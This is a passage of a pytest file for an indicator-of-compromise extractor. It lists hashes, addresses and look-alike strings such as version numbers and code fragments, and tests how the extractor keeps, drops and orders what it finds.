    ("x509 Subject", "Subject: CN=evil, O=x", "CN=evil, O=x", "named by its label"),
    ("SHA-256", f"SHA-256:\n{SHA256[:32]}\n{SHA256[32:]}\n", SHA256, "broken in the middle"),
    ("SHA-256", f"SHA-256\n{SHA256[:32]}\n{SHA256[32:]}\n", SHA256, "broken in the middle, in cells"),
    ("MD5", f"{MD5}\n{SHA256[32:]}\n", MD5, "two in a list"),
    ("MD5", f"SHA-256, MD5:\n{MD5}\n{SHA256[32:]}\n", MD5, "the label of the nearest"),
    ("MD5", f"SHA256:\n{MD5}\n{SHA256[:32]}\n{SHA256[32:]}\n", MD5, "three in a list"),
    ("MD5", f"hashes, outside: {MD5}", MD5, "no token"),
    ("SHA-256", f"File: {SHA256}.exe", SHA256, "the name of a file behind its label"),
    ("SHA-1", f"broken={SHA1}", SHA1, "no token"),
    ("MD5", f"fluid: {MD5}", MD5, "no identifier"),
    ("String", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2", "Bitcoin"),
    ("String", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq", "BIP 173"),
    ("String", "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed", "EIP-55"),
    ("String", f"imphash: {MD5}", MD5, "the hash of imports is none of a file"),
    ("String", f"imphash:      {MD5}", MD5, "in a column beside its label"),
    ("String", f'"ja3":{{"hash":"{MD5}"}}', MD5, "the fingerprint of a client is none of a file"),
    ("String", f"JA3S hash {MD5}", MD5, "the fingerprint of a server is none of a file"),
    ("String", f"Imphash\n{MD5}", MD5, "in the line below its label"),
]  # fmt: skip

NOTHING = [
    ("if(e.top<0||curOffset.top>rect.top)a=offset.top-o.top", "edges, as scripts ask for them"),
    ("BaseNode.prototype.info=1;Foo.prototype.link = x", "methods of classes of scripts"),
    ("Lunch at 12:30? Version 1.2.3 costs 4.50. And/or tomorrow.", "times, versions, prices"),
    ("the printer is 192.168.1.10 or 10.0.0.1", "private addresses (RFC 1918)"),
    ("192.0.2.1 198.51.100.2 203.0.113.9 2001:db8::1", "for documentation (RFC 5737, RFC 3849)"),
    ("127.0.0.1 0.0.0.0 224.0.0.1 255.255.255.255 ::1 fe80::1", "special addresses"),
    ("version 4.3.2.1, v4.3.2.1, build: 4.3.2.1", "version numbers"),
    ("version 4.3.2.1 and 4.3.2.2, 4.3.2.3 to 4.3.2.4", "version numbers one after another"),
    ("Firefox 99.0.1.2, FortiOS 7.0.1.5 through 7.0.1.9, Reader DC 21.1.20.15", "versions of products"),
    ("pkg==4.3.2.1 and pkg>=4.3.2.1", "versions of packages"),
    ('__version__ = "4.3.2.1" {"version": "4.3.2.1"} <FileVersion>4.3.2.1</FileVersion>', "fields of versions"),
    ("Tel. 170.123.45.67, M +49 (0)170.123.45.67, +49 170.123.45.67", "telephone numbers"),
    ("fixed in 4.3.2.1-rc1 and 4.3.2.1-node.11", "editions of a version"),
    ("a Dockerfile.dev and a README.android", "names of files"),
    ("the brand KNOWN AS #1", "a rank"),
    ("the syntax asn1", "the abstract syntax notation"),
    ("error in the ASN1 encoding routines", "the abstract syntax notation"),
    ("self.fp.read index.js.map", "code and a file"),
    ("\u00a7 4.3.2.1, paragraph 4.3.2.1", "numbers of sections"),
    ("\u7b2c4.3.2.1\u6761, Art.-Nr. 11.2.3.4, \u21164.3.2.1, \u53d1\u7968\u53f7\uff1a4.3.2.1", "numbers of articles"),
    ("ph\u1ea7n m\u1ec1m 4.3.2.1", "a version"),
    (r"re.regex(agent, `Chrome/119\.0\.0\.0`)", "a version in a pattern"),
    ("write to it@acme.gov.test", "a reserved name below a known suffix"),
    ("main.ml test.pl configure.ac index.java logo.ai command.com", "files whose ends are top-level domains"),
    ("this.state.name response.body.info", "code"),
    ("tell me.to and it.is so", "sentences without a blank"),
    ("uses asp.net", "the name of a product"),
    ("Chrome/44.0.240.88 OPR/106.0.0.0 Tool/4.3.2.1 tool-4.3.2.1", "versions of products"),
    ("Cisco ASA 9.18.4.22, release notes 4.12.0.1", "versions of products"),
    ("pkg_4.3.2.1_amd64 4.3.2.1_1", "versions of packages"),
    ("versi 7.2.0.15; \u0432\u0435\u0440\u0441\u0438\u044f 6.7.8.9; vers\u00e3o 5.4.3.2", "version numbers"),
    ("\u8f6f\u4ef6\u7248\u672c 5.6.7.8 \u30d0\u30fc\u30b8\u30e7\u30f3 5.6.7.9", "version numbers"),
    ("| **Version** | 4.3.2.1 |\n| File version | `10.3.2.1` |\n**Version:** 5.4.3.2", "version numbers in tables"),
    ("version numbers were 4.3.2.1 and 4.3.2.8, a version which was 4.3.2.1", "version numbers"),
    ("cpe:2.3:a:cisco:asa:9.13.1.21:*:*:* cpe:/a:hp:diagnostics:7.4.0.15:-", "names of products (NIST IR 7695)"),
    ("7.44.128.7.20\n9.44.128.7.21\n", "numbers of five parts"),
    ("copy sam.save to another place", "the name of a file"),
    ("\u517168000\u4e2a.garden\u57df\u540d", "a suffix in Chinese prose"),
    (f"Cookie: PHPSESSID={MD5}; csrf_token={SHA1}", "tokens of a session"),
    (f'X-Request-ID: {SHA256} "sessionToken": "{SHA256}"', "tokens of a request"),
    ("oid 1.3.6.1.4.1.311 and .44.3.6.1", "more than four numbers, and one with the dot of an object identifier"),
    ("bob@_dmarc.quota-demo.com bob@_quota_.com", "names for services"),
    ("44.128.256.1 44.128.07.1", "no octets"),
    ("10:30:45 and std::string a::b", "clock times and code are no IPv6"),
    ("see readme.md, setup.py, invoice.zip, install.sh", "files whose ends are top-level domains"),
    ("Trojan.Win32.Agent.AE Win32.Agent.AE", "detection names"),
    ("document.location this.name System.IO os.path e.g. i.e. et.al", "code and abbreviations"),
    ("foo.call(bar) item.style = 1 user.id", "code"),
    ("dns.question.name: x and file.pe.company: y or threat.indicator.name host.id", "fields of logs (ECS)"),
    ("dns.qry.name contains x or tcp.stream eq 3; http.host", "fields of filters (Wireshark, Suricata)"),
    ("at a.b.Login.call(Login.java:42) at Main.main(Main.java)", "a trace of calls"),
    ("client.Timeout = cfg.Net.Timeout", "code with capitals behind two dots"),
    ("write do_it at System.Net.Sockets.Socket.Connect()", "a trace of calls"),
    ("set config.prod and db.prod", "what is in production"),
    ("\u0433.\u041c\u043e\u0441\u043a\u0432\u0430", "the abbreviation of a town before its name"),
    ("Prof.Dr.med Huber, Dr.med Huber, Tel.Nr 7", "abbreviations in German"),
    ("Setup 1.4.14 .zip", "a version before the end of a file's name"),
    (f"SSH key fingerprint MD5:{IN_BYTES[:47]}", "the hash of a key"),
    (f"The SSH fingerprint of the server in that data center of theirs is {IN_BYTES[:47]}", "the hash of a key"),
    (IN_BYTES, "bytes that nothing calls a hash"),
    (f"{APART} key fingerprint: {APART}", "bytes that nothing calls a hash, and the hash of a key"),
    (f"thumbprint: {APART} 7f {APART} 8e {APART}", "more bytes than any hash has"),
    (f"x{SHA1}", "a letter before it, and no prefix"),
    ("it was listed as number 64999 of them", "no network"),
    ("\xd0\xe5\xe9\xf2\xe8\xed\xe3@Mail", "letters of a wrong charset"),
    ("com.android.vending.app", "the name of a package"),
    ("list@sandbox.test http://intranet/x http://printer.local/", "reserved names (RFC 6761) and names of one label"),
    ("PTR 21.7.128.44.in-addr.arpa 5.2.ip6.arpa", "addresses as names (RFC 1035, 3.5)"),
    ("use socket.io-client with Node.js-based", "names of packages"),
    ("a.invalidtld x.exe co.uk", "no suffix, or nothing but one"),
    ("Message-ID: <CAF123@mail.quota-demo.com>", "an identifier"),
    ("Message ID: <acme/core/pull/1190@quota-demo.com>", "an identifier, as GitHub writes it below a mail"),
    ('update @quota-demo.com/tools and "@quota-demo.com/tools/log.js", @quota-demo.com/tools@2.1.0', "packages"),
    ("the domain element.style and a website named npmjs.help", "code, and no word beside the name"),
    ("<img src=cid:logo@quota-demo.com>", "the identifier of a part"),
    ('xmlns="http://www.w3.org/1999/xhtml"', "the name of an XML namespace"),
    ("<a xmlns='http://quota-demo.com/ns/1.0' xmlns:b=\"http://quota-demo.com/b?c\"/>", "the names of XML namespaces"),
    ('<a xmlns:q = "https://quota-demo.com/q">', "the name of an XML namespace"),
    ("use 8.8.8.8 as resolver", "a public resolver"),
    ("d41d8cd98f00b204e9800998ecf8427e", "the hash of nothing"),
    ("0" * 32 + " " + "f" * 64, "digits alike"),
    ("--" + MD5 + "\n", "the boundary of a multipart body"),
    ("a" * 33 + " " + "b1" * 34, "too long for a hash, too short for the next"),
    ("commit " + SHA1, "a commit"),
    (f"Merge {SHA1} into {SHA1[::-1]}", "commits"),
    (f"UID:{MD5.upper()}\nX-LOTUS-CHILD-UID:{MD5}\nuid={MD5}; BuildId: {SHA1}", "identifiers of entries and builds"),
    (f"uses: actions/checkout@{SHA1} # v4", "a commit by which a build takes a tool"),
    (f'rev = "{SHA1}", ref: {SHA1}, HEAD is now at {SHA1}', "commits"),
    ("ACME TRADING CO.LTD, Foo Pvt.Ltd, GmbH & Co.KG", "forms of companies"),
    ("INV.NO: 12 | TEL.NO 5, sr.no 7, Ref.No 3, P.O.NO 8", "numbers of forms"),
    ("open Safari.app and see Chrome.app/Contents/MacOS", "programs of macOS"),
    ("uses requests.post, subprocess.run and logger.info, log.info", "code"),
    ("please log.in today, made.in China, done.no more", "sentences without a blank"),
    ("e.g.foo or i.e.bar", "words behind abbreviations"),
    ("Veeam 12.1.1.56, Ivanti EPMM 11.10.0.2, 11.9.1.1", "versions of products"),
    ("see Task 3.1.2.2 and item 5.4.3.2", "numbers of sections"),
    ("affects <6.2.11.3, < 6.2.11.4, 4.x before 4.9.8.7, versions before 4.9.8.8, prior to 6.2.11.5", "versions"),
    ("v4.3.2.1: fixed, Version 4.3.2.1:\nnew", "a version before a colon"),
    ("Veeam Backup & Replication 12.1.1.56, EntityFramework 6.4.4.1", "small numbers behind a proper name"),
    ("igb.sys (12.19.2.45), registry.local/ci/maven:3.9.6.1@sha256:0", "of a file, and of the image of a container"),
    ("config: Remcos 4.9.3.0", "a small number behind a proper name"),
    ("bump jackson from 2.14.0.1 to 2.15.3", "a small number before a version"),
    ("gem 'x', '~> 7.1.3.2' and web@4.12.0.3+build.88", "versions of packages"),
    ("fixed in 6.2.11.3, Fixed-in 6.2.11.4, fixed 6.2.11.6, patched in 6.2.11.5", "versions"),
    ('ssl.cert.subject.cn:"x" or y.group.name == z', "fields of filters, and code"),
    ("move to 42.3.2.1 or later, to 42.3.2.2 (or newer), 42.3.2.3 oder h\xf6her", "versions"),
    ("the 4.3.2.1 release", "a version"),
    (
        "Ziff. 3.1.2.4, \u043f. 4.2.1.3 apdo. 3.2.1.1, pkt 4.1.2.3, \u010dl. 3.2.1.4, Bagian 2.1.3.4, n\xb01.2.3.4-B",
        "numbers of sections",
    ),
    (
        "Versionen 4.2.8.15 bis 4.2.8.19, s\u00fcr\u00fcm 2.7.1.9, phi\u00ean b\u1ea3n 4.0.2.11,"
        " \u0441\u0431\u043e\u0440\u043a\u0430 3.2.1.4, \u0625\u0635\u062f\u0627\u0631 3.2.1.0",
        "version numbers",
    ),
    ("W32/Emotet.com!tr and Trojan:Emotet.net!MTB", "detection names"),
    ("route 10.1.2.0/255.255.255.0", "a private network and its mask"),
    ("libfoo.so.1.2.3.4 and oid.44.3.6.1.4", "a version, and a longer number"),
    ("P\u00e1g.web, all.to n.3", "abbreviations"),
    ("q = shift(50020603652535783019961831881945)", "a number of 32 decimal digits"),
    (f"validpgpkeys = {SHA1.upper()}", "keys of OpenPGP"),
    ("edit variables.tf, outputs.tf and providers.tf", "files of Terraform"),
    ("reports 0.4.1.dev and 5.0.dev", "versions in development"),
    ("AddIcon /icons/a.gif .ps .ai .eps, AddType x .tgz .gz", "lists of endings"),
    ("max 2 . maximum . map length", "functions behind one another"),
    ("if token.id or chain.id, vpc = aws_vpc.main.id here", "code and places in a program"),
    ("Hello {{ user.place.is }}, {{contact.email}}", "places in a template"),
    ('"^1.26.25.14" and the Java Specification 15.11.2.2', "versions of packages, and a section"),
    ("TRANS IS DEFINED AS 180 +/- 30, id=AS000014, ASN: 102369749", "no networks"),
    ("S.de R.L., J.DE VLIEG, H.WANG", "initials"),
    ("echo.to the screen, colors.red", "code"),
    ("SELECT u.email, o.state.name FROM users u", "columns of tables"),
    ("\u043f.\u043f. 4.1.2.6, \u0440\u0438\u0441. 1.2.3.4, annexe 2.3.1.1", "numbers of sections"),
    ("version 7.1.0.15\u20137.1.0.19, \u7248\u672c\uff1a6.5.0.1\u81f36.5.0.9", "versions from one to another"),
    (
        "\u30d0\u30fc\u30b8\u30e7\u30f3\u306f3.1.2.0\uff5e3.1.2.5, \ubc84\uc804 5.0.1.2",
        "versions from one to another",
    ),
    ("each.value.name, local.owner.name and module.vpc.this.id x", "places in a program"),
    ("TTL 3600.MX prio", "the next sentence behind a number"),
    (
        "Versio 3.2.1.5, verzi\u00f3: 2.0.1.6, Versiunea 4.1.0.7, "
        "\u0e40\u0e27\u0e2d\u0e23\u0e4c\u0e0a\u0e31\u0e19 2.0.1.3",
        "version numbers",
    ),
    ("FortiOS 7.2.5.1 -> 7.2.8.3, iPhone 15.3.1.2", "version numbers"),
    ("kohta 4.1.2.1, pct. 2.1.1.4, b\u00f6l\u00fcm 2.1.4.1", "numbers of sections"),
    ("if ap.id_ == x: bundle.id_, validators.in_(y)", "code with a low line behind it"),
    ("if TLD is valid, i.e .com or .co.uk, e.g .net", "suffixes behind an abbreviation"),
    ("Object type{}is not, file[]in", "places for words in a text"),
    ("E -> . E PLUS E, E -> E . PLUS E", "the rules of a grammar"),
    ("return DataEnvironment.Kusto.name or procs.index.name here", "code"),
    ("logsource:\n  product: windows\n  service: sysmon\n", "a source of logs in a rule of Sigma"),
    ("quota.cc:12:5: error, lexer.pl:3:1", "places in the source of a program"),
    ("see Schedule 4.2.1.1, Exhibit 3.1.2.2, Sec. 5.1.2.2", "numbers of sections"),
    ("Affects Version/s: 2.3.4.5, versi\u00f3n del agente: 7.1.2.3", "versions, and of what"),
    ("Apache 2.4.57.1, LEEF:2.0|IBM|QRadar|7.5.0.1|x", "versions of products"),
    ("client.geographicalContext.city: x, user.rawData.info", "fields of logs, with capitals inside"),
    ("module.network.aws_vpc.main.id and var.tags.name", "places in a program, with low lines"),
    ('f"{self.module}.{name}" and numpy.{name}, dask.(name)', "places in a template of a name"),
    ("m = sha256.group(1) or df.x.lt(10)", "methods to which a number is given"),
    ("self.mutex = threading.Lock(x)\nnamed_service = kwargs.pop(x)", "calls"),
    ("service=$servicename", "a variable"),
    ("Upgrade V8 to 3.6.6.24, bumped to 3.6.1.0\nChanges in 1.2.4.3 (10 Apr)", "versions in a change log"),
    ("5.3.3. Delta\n    5.3.3.1. Format\n    5.3.3.2 Use", "numbers of sections"),
    ("gcc/config/foo.cc, src/main.in and debian/rules.in/x.install", "files in a path"),
    ("network-online.target fancontrol.pid log4j.properties Xrandr.man x-dev.docs", "files of systems"),
    ("by connect()ing, when mount()able", "the name of a function with an ending"),
    ("see lib.[ch] and regex.[ch]", "files by their two endings"),
    ("the AS400 and AS/400", "a computer"),
    (f"my key {SHA1.upper()}, gpg --recv-keys {SHA1.upper()}", "keys of OpenPGP"),
    ("on Jun 6 2006::\nas follows", "a year, and the colons of reStructuredText"),
    ("1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3", "a coin whose checksum is wrong"),
    ("0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD", "a coin whose checksum is wrong"),
    ("CVE-1902-0001", "no year of CVE"),
    ("the protocol AS4, and as it was in 2014", "no network"),
    ("setup4.3.2.1", "part of a word"),
    ("the mutex is created, the service starts", "words that name nothing"),
    ("https://protect-eu.mimecast.com/s/abcd", "a rewritten link that does not tell its target"),
]  # fmt: skip


@pytest.mark.parametrize(("type_", "text", "value", "reason"), KEPT, ids=[f"{t}-{w}" for t, _, _, w in KEPT])
def test_a_value_is_found_as_what_it_is_where_it_stands(type_: str, text: str, value: str, reason: str) -> None:
    found = find(text).found
    assert (type_, value) in {(finding.type, finding.value) for finding in found}, reason
    assert all(text[finding.start : finding.end] == finding.raw for finding in found)


@pytest.mark.parametrize(("text", "reason"), NOTHING, ids=[reason for _, reason in NOTHING])
def test_what_only_looks_like_one_is_none(text: str, reason: str) -> None:
    assert [(finding.type, finding.value) for finding in find(text).found] == [], reason


@pytest.mark.parametrize(
    "text", ["44.128.7.21", "a http://quota-demo.com/x b", f"{MD5} {SHA256}", r"c:\\windows\\x\\cmd.exe"]
)
def test_a_value_is_found_once_and_not_in_pieces(text: str) -> None:
    assert len(find(text).found) == len(text.split()) - (2 if "http" in text else 0)


def test_the_host_of_a_url_is_a_second_indicator_only_on_request() -> None:
    text = "http://quota-demo.com/x"
    assert [f.type for f in find(text).found] == ["URL"]
    assert {f.type for f in find(text, Options(hosts_of_urls=True)).found} == {"URL", "FQDN"}


def test_a_url_and_its_host_are_both_kept_where_both_were_written() -> None:
    assert [f.type for f in find("quota-demo.com http://quota-demo.com/x").found] == ["FQDN", "URL"]


def test_a_list_of_addresses_gives_what_each_of_its_lines_gives() -> None:
    """A long list is cut at all of its addresses at once, but for those that need a closer look."""
    lines = [f"{number}.18.3.4" for number in range(300)] + [f"44.128.7.{number}" for number in range(300)]
    lines += [f"44.{number}.{number}.9" for number in (0, 1, 99, 100, 199, 200, 249, 250, 255, 256, "00", "01")]
    lines += ["44.1.2.3.4", "044.1.2.3", "44.1.2.3x", "x44.1.2.3", "44.1.2.3:80", "44.1.2.3 ", "44.1.2.0/24"]
    one_by_one = [(f.type, f.value, f.rule) for line in lines for f in find(line, dropped=True).found]
    assert [(f.type, f.value, f.rule) for f in find("\n".join(lines)).found] == one_by_one
    assert len(one_by_one) > 470


@pytest.mark.parametrize("last", ["0" * 64, "z" * 64, f"imphash: {MD5}", f"commit {SHA1}", ""])
def test_a_list_of_hashes_gives_what_each_of_its_lines_gives(last: str) -> None:
    """A long list is looked at as a whole, unless one of its lines is no hash."""
    kinds = (sha256, sha1, md5)
    lines = [kind(b"%d" % number).hexdigest() for kind in kinds for number in range(40)]
    lines += [lines[3].upper(), f"0x{lines[5]}", f"{lines[7]}, {lines[9]}", last, lines[2]]
    one_by_one = [(f.type, f.value, f.rule) for line in lines for f in find(line).found]
    assert [(f.type, f.value, f.rule) for f in find("\n".join(lines)).found] == one_by_one
    assert len(one_by_one) >= 125


def test_findings_come_in_order_of_appearance() -> None:
    text = f"{SHA256} 44.128.7.21 http://quota-demo.com/x bob@quota-demo.com {MD5}"
    assert [f.type for f in find(text).found] == ["SHA-256", "IP Address", "URL", "Email Address", "MD5"]


@pytest.mark.parametrize("chance", ["d7z.pw", ">h.]iL(a", "n@v.gf", "!j:\\e1", "z.ke/x"])
def test_a_short_value_among_bytes_is_chance(chance: str) -> None:
    """Of random bytes one megabyte holds a handful; a text that somebody wrote may name such a host."""
    text = f"xR}}O\n{chance}\nquota-demo.com\n5.44.7.1\nC:\\Temp\\x.exe"
    found = find(text, kind="strings")
    assert [f.value for f in found.found] == ["quota-demo.com", "5.44.7.1", "C:\\Temp\\x.exe"]
    assert found.dropped_counts == {"chance among bytes": 1}
    assert len(find(text).found) == 4


@pytest.mark.parametrize(
    ("other", "rule"),
    [
        (".data.rel.ro", "section of a program"),
        (".note.gnu.property", "section of a program"),
        ("2.5.29.17", "object identifier"),
        ("1.3.101.110", "object identifier"),
        ("FileVersion\n14.1.0.22", "version number"),
    ],
)
def test_what_every_program_holds_is_no_indicator(other: str, rule: str) -> None:
    found = find(f"\nquota-demo.com\n{other}\n5.44.7.1\n", kind="strings")
    assert [f.value for f in found.found] == ["quota-demo.com", "5.44.7.1"]
    assert found.dropped_counts == {rule: 1}


def test_a_type_can_be_switched_on_and_off() -> None:
    text = "Username: mallory at 44.128.7.21 http://quota-demo.com/a/b"
    assert [f.type for f in find(text).found] == ["IP Address", "URL"]
    options = Options(types={"Username": True, "IP Address": False, "URL Path": True})
    assert [f.type for f in find(text, options).found] == ["Username", "URL", "URL Path"]


def test_what_is_dropped_is_counted_and_on_request_shown() -> None:
    text = "192.168.1.10 readme.md 8.8.8.8"
    quiet, loud = find(text), find(text, dropped=True)
    assert quiet.dropped == () and quiet.dropped_counts == loud.dropped_counts
    assert [(f.value, f.rule) for f in loud.dropped] == [
        ("192.168.1.10", "private or documentation address"),
        ("readme.md", "file name"),
        ("8.8.8.8", "list public-resolvers"),
    ]


def test_a_port_is_kept_beside_the_address() -> None:
    assert find("44.128.7.21:8080").found[0].attributes == (("Port", "8080"),)


@pytest.mark.parametrize(("text", "rule"), [("v4.3.2.1", "version number"), ("setup4.3.2.1", "part of a word")])
def test_numbers_behind_a_letter_are_shown_as_dropped(text: str, rule: str) -> None:
    findings = find(text, dropped=True)
    assert not findings.found and [(f.value, f.rule) for f in findings.dropped] == [("4.3.2.1", rule)]
